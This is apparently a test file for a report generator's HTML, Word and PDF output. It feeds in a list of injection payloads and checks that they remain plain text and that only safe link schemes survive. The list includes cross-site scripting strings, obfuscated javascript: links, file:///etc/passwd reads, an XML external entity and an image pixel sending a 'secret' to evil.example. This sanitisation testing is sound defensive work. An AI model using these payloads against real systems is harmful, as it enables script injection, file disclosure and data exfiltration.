import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Parser } from "htmlparser2";
import { expect, test } from "vitest";
import { docxReport } from "./docx/docx-report.js";
import { readZip } from "./docx/zip.js";
import { htmlReport } from "./html/html-report.js";
import { pdfReport } from "./pdf/pdf-report.js";
import type { ReportConfig } from "./report-config.js";
import { type WrittenReport, writeReport } from "./write-report.js";

const config: ReportConfig = {
  authors: [],
  language: "en",
  page_size: "A4",
  include_visualizations: true,
  export_formats: ["html"],
  citations: { style: "numbered", list: "all" },
  methods: true,
  contents: false,
  fonts: [],
};
const making = {
  nanobrain: "1",
  library: "1",
  node: "1",
  runId: "r",
  madeAt: "2026-01-02T00:00:00.000Z",
  formats: [],
  template: "a template",
};
const options = { pageSize: "A4", madeAt: Date.UTC(2026, 0, 2), producer: "NanoBrain", fonts: [] } as const;

function reportOf(value: object, more: Partial<ReportConfig> = {}): Promise<WrittenReport> {
  return writeReport({
    config: { ...config, ...more },
    inputs: { analysis_input: value as never },
    template: undefined,
    references: [],
    making,
  });
}

/** Texts that models and pages say, or are made to say. */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "</style><script>alert(1)</script>",
  "</title></head><body onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<!--><script>alert(1)</script-->",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/a)",
  "[x](../../secret)",
  "[x](https://user:password@evil.example/)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  '[x][ref]\n\n[ref]: https://a.example "onmouseover=alert(1)"',
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](file:///etc/passwd)",
  "![x](chart:../../etc/passwd)",
  '![" onerror="alert(1)](chart:publications-by-year)',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "`</code><script>alert(1)</script>`",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
  "# <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
  "[@x<script>alert(1)</script>]",
  "[@smith2020; javascript:alert(1)]",
  "{{ constructor }}{% include '/etc/passwd' %}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202Ealert(1)\u202C <script\u0000>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
];

const source = {
  title: '<script>alert(1)</script> & "quoted"',
  authors: ["<b>Smith</b> JA"],
  year: 2020,
  venue: "</em><script>",
  url: "javascript:alert(1)",
  key: "smith2020",
};

function looked(page: string): {
  readonly elements: readonly string[];
  readonly targets: readonly string[];
  readonly handlers: readonly string[];
} {
  const elements: string[] = [];
  const targets: string[] = [];
  const handlers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      elements.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on/i.test(key) || key === "style") handlers.push(`${name} ${key}`);
        if (["href", "src", "action", "xlink:href", "srcdoc"].includes(key)) targets.push(value);
      }
    },
  });
  parser.end(page);
  return { elements, targets, handlers };
}

const allowed =
  /^(html|head|meta|title|style|body|main|header|nav|section|figure|figcaption|div|h[1-6]|p|ul|ol|li|blockquote|pre|code|table|thead|tbody|tr|th|td|hr|br|strong|em|s|sup|span|a|svg|path|rect|text|g|circle|polyline|defs|clippath)$/;

test.each(attacks)("report text: %j stays text on the page", async (attack) => {
  const value = {
    text: attack,
    title: attack,
    summary: attack,
    findings: [{ text: attack, sources: [attack] }],
    recommendations: [attack],
    notes: [attack],
    model: attack,
    sources: [source, { title: attack, year: 2021 }],
  };
  const { tree } = await reportOf(value);
  const { elements, targets, handlers } = looked(htmlReport(tree));
  expect(elements.filter((one) => !allowed.test(one))).toEqual([]);
  expect(handlers.filter((one) => !/^text style$/.test(one))).toEqual([]);
  expect(targets.filter((one) => !/^(#|https?:\/\/|mailto:)/.test(one))).toEqual([]);
  expect(targets.filter((one) => /evil\.example\/pixel|password@/.test(one))).toEqual([]);
});

test("report text: in Word and PDF attacks are text, and links lead to http, https and mailto", async () => {
  const { tree } = await reportOf({ text: attacks.join("\n\n"), sources: [source] });
  const parts = readZip(await docxReport(tree, options));
  const links = parts.flatMap(({ name, bytes }) =>
    name.endsWith(".rels")
      ? [...bytes.toString().matchAll(/Target="([^"]*)" TargetMode="External"/g)].map(([, target]) => target)
      : [],
  );
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) expect(link).toMatch(/^(https?:\/\/|mailto:)/);
  for (const { name, bytes } of parts) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    const parser = new Parser(
      { onopentag: (element) => expect(element).not.toMatch(/^(script|iframe)$/) },
      { xmlMode: true },
    );
    parser.end(bytes.toString());
    expect(bytes.toString()).not.toMatch(/<!(DOCTYPE|ENTITY)/);
  }
  const { bytes } = await pdfReport(tree, options);
  const actions = [...bytes.toString("latin1").matchAll(/\/URI \(([^)]*)\)/g)].map(([, target]) => target);
  for (const action of actions) expect(action).toMatch(/^(https?:\/\/|mailto:)/);
  expect(bytes.toString("latin1")).not.toMatch(/\/(JavaScript|JS|Launch|EmbeddedFile)\b/);
});

test("report text: nesting without end and long lines end in time, and in a report", async () => {
  for (const text of [
    `${"> ".repeat(5_000)}x`,
    `${"[".repeat(5_000)}x${"]".repeat(5_000)}`,
    "*".repeat(20_000),
    "- ".repeat(3_000),
    "x".repeat(200_000),
    "[@a;".repeat(3_000),
    "| a ".repeat(2_000),
  ]) {
    const { tree } = await reportOf({ text });
    expect(htmlReport(tree)).toContain("</html>");
  }
});

test("PDF: text comes out again, Greek, accents and signs of mathematics included; what no font has is told", async (context) => {
  if (spawnSync("pdftotext", ["-v"]).error !== undefined) return context.skip("pdftotext is not installed");
  const said = "α β γ Δ µ ± ≥ ≤ → ∈ ≪ ² ₁ é ß Ł ğ Ж €";
  const { tree } = await reportOf({
    text: `# A title\n\n## Signs\n\n${said} 中文\n\n- [link](https://a.example/)\n\n\`a code\`[^n]\n\n[^n]: a note`,
  });
  const { bytes, missing } = await pdfReport(tree, options);
  expect(missing).toEqual(["中", "文"]);
  const folder = mkdtempSync(join(tmpdir(), "nanobrain-pdf-"));
  try {
    writeFileSync(join(folder, "report.pdf"), bytes);
    const text = execFileSync("pdftotext", ["-layout", join(folder, "report.pdf"), "-"]).toString();
    for (const sign of said.split(" ")) expect(text).toContain(sign);
    expect(text).toMatch(/A title.*Signs.*link.*a code.*a note/s);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
